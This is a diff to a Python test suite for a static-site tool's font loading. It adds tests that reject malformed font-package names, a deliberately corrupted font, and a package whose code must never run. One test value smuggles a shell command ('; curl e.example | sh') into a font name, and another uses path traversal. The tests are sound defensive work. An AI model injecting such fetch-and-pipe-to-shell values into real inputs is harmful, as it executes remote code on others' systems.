@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import sys
 from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -16,9 +17,10 @@ from conftest import RunCli, Write
 from fontTools.ttLib import TTFont
 from pypdf import PdfReader
 
-from cuecard.problems import Problem, Refused, Severity, has_errors
-from cuecard.publish import fonts, typeset
-from cuecard.publish.fonts import Face, further_faces, main_faces, missing
+from cuecard.core.diagnostics import InvalidValueError, Problem, Severity, has_errors
+from cuecard.media import fonts
+from cuecard.media.fonts import Face, further_faces, main_faces, missing
+from cuecard.site.cards import typeset
 
 NOTO = "fontpkg-noto-sans"
 TITLES = {
@@ -157,9 +159,9 @@ def test_boxes_would_be_seen(tmp_path: Path) -> None:
 
 def fonts_refused() -> type[Exception]:
     """What Typst's refusal becomes."""
-    from cuecard.publish.render import TemplateFault  # noqa: PLC0415
+    from cuecard.site.render import TemplateError  # noqa: PLC0415
 
-    return TemplateFault
+    return TemplateError
 
 
 def test_font_file_of_the_content(tmp_path: Path) -> None:
@@ -197,6 +199,13 @@ def test_family_of_a_font_file(name: str, tmp_path: Path) -> None:
 # --- fonts that are not there --------------------------------------------------------------------------------------
 
 
+def with_torn_characters(font: bytes) -> bytes:
+    """The font with a table of characters (`cmap`) that leads out of itself."""
+    entry = font.index(b"cmap")
+    start = int.from_bytes(font[entry + 8 : entry + 12], "big")
+    return font[: start + 4] + b"\xff" * 196 + font[start + 200 :]
+
+
 @pytest.mark.parametrize(
     ("name", "message"),
     [
@@ -207,8 +216,13 @@ def test_family_of_a_font_file(name: str, tmp_path: Path) -> None:
         ("empty.otf", '"empty.otf" cannot be read as a font'),
         ("exercises/squat.md", '"exercises/squat.md" cannot be read as a font'),
         ("exercises", 'there is no font file "exercises" in the content folder'),
-        ("fontpkg-", 'the font package "fontpkg-" is not installed'),
-        ("fontpkg-../../os", 'the font package "fontpkg-../../os" is not installed'),
+        ("fontpkg-", '"fontpkg-" is no name of a font package'),
+        ("fontpkg-../../os", '"fontpkg-../../os" is no name of a font package'),
+        ("fontpkg-noto-sans.files", '"fontpkg-noto-sans.files" is no name of a font package'),
+        ("fontpkg-noto_sans", '"fontpkg-noto_sans" is no name of a font package'),
+        ("torn.ttf", '"torn.ttf" cannot be read as a font'),
+        ("fontpkg-x; curl e.example | sh", '"fontpkg-x; curl e.example | sh" is no name of a font package'),
+        ("a" * 300 + ".ttf", "there is no font file"),
     ],
 )
 def test_no_such_font(name: str, message: str, project: Path, write: Write, run_cli: RunCli) -> None:
@@ -217,11 +231,25 @@ def test_no_such_font(name: str, message: str, project: Path, write: Write, run_
     write("content/site.yaml", f"{settings}fonts:\n  - {name}\n")
     write("content/broken.ttf", noto().read_bytes()[:300])
     write("content/empty.otf", b"")
+    write("content/torn.ttf", with_torn_characters(noto().read_bytes()))
     write("outside.ttf", noto().read_bytes())
     told = run_cli("check")
     assert told.code == 1
     assert f"error[no-font]: {message}" in told.err
-    assert f"- {name}" in told.err
+    assert f"- {name[:40]}" in told.err
+    assert "pip install" not in told.err
+
+
+def test_a_font_package_runs_no_code(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What content names is read as data: its files are found, and its program is never started."""
+    package = tmp_path / "fontpkg_of_a_stranger"
+    (package / "files").mkdir(parents=True)
+    (package / "__init__.py").write_text("raise SystemExit('this ran')", encoding="utf-8")
+    (package / "files/face.ttf").write_bytes(noto().read_bytes())
+    monkeypatch.syspath_prepend(str(tmp_path))
+    (face,) = further_faces("fontpkg-of-a-stranger", tmp_path)
+    assert face.file == package / "files/face.ttf"
+    assert "fontpkg_of_a_stranger" not in sys.modules
 
 
 def test_a_cut_off_font(tmp_path: Path) -> None:
@@ -236,7 +264,7 @@ def test_a_cut_off_font(tmp_path: Path) -> None:
 
 def test_no_absolute_path(tmp_path: Path) -> None:
     """An absolute path is outside of the content folder, too."""
-    with pytest.raises(Refused, match="there is no font file"):
+    with pytest.raises(InvalidValueError, match="there is no font file"):
         further_faces(str(noto()), tmp_path)
 
 
